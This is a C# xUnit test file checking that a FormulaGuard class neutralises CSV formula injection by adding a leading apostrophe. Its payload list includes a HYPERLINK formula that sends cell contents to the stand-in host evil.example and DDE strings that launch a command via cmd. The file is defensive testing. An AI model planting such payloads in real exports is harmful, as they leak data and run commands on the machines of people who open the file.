using LocalCare.Core.Exports;

namespace LocalCare.Core.Tests.Exports;

/// <summary>Defusing text a spreadsheet would run as a formula (OWASP CSV injection).</summary>
public sealed class FormulaGuardTests
{
    /// <summary>OWASP's and common CSV-injection payloads: each starts with a trigger and must come back with a leading apostrophe.</summary>
    public static TheoryData<string> Payloads =>
    [
        "=1+2",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+1+2",
        "-1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "@cmd|'/c calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "=",
        "-",
        "-12",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void RiskyText_GetsALeadingApostrophe(string payload)
    {
        Assert.True(FormulaGuard.IsRisky(payload));
        Assert.Equal("'" + payload, FormulaGuard.Neutralise(payload));
    }

    [Theory]
    [InlineData("")]
    [InlineData("Crisis response within 2 hours")]
    [InlineData("a=b")]
    [InlineData(" =1+2")]
    [InlineData("'=1+2")]
    [InlineData("service:POD")]
    [InlineData("12")]
    public void OtherText_IsLeftAlone(string text)
    {
        Assert.False(FormulaGuard.IsRisky(text));
        Assert.Same(text, FormulaGuard.Neutralise(text));
    }

    [Fact]
    public void TheTriggers_AreTheOnesItChecks()
    {
        Assert.All(FormulaGuard.Triggers, c => Assert.True(FormulaGuard.IsRisky(c + "x")));
        Assert.Equal(['=', '+', '-', '@', '\t', '\r'], FormulaGuard.Triggers);
    }
}
